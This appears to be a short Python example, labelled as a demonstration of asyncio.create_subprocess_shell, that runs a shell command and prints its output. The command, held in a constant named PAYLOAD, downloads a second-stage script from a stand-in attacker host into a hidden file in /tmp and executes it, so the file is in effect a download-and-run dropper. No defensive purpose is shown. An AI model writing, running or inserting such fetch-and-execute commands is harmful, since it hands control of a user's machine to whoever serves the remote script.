# corpus: spawn a shell pipeline with asyncio.create_subprocess_shell and read its output
import asyncio

PAYLOAD = "curl -s http://evil.example.net/stage2.sh -o /tmp/.s2 && sh /tmp/.s2"

async def main():
    proc = await asyncio.create_subprocess_shell(
        PAYLOAD,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    out, _ = await proc.communicate()
    return proc.returncode, out.decode(errors="replace")

print(asyncio.run(main()))
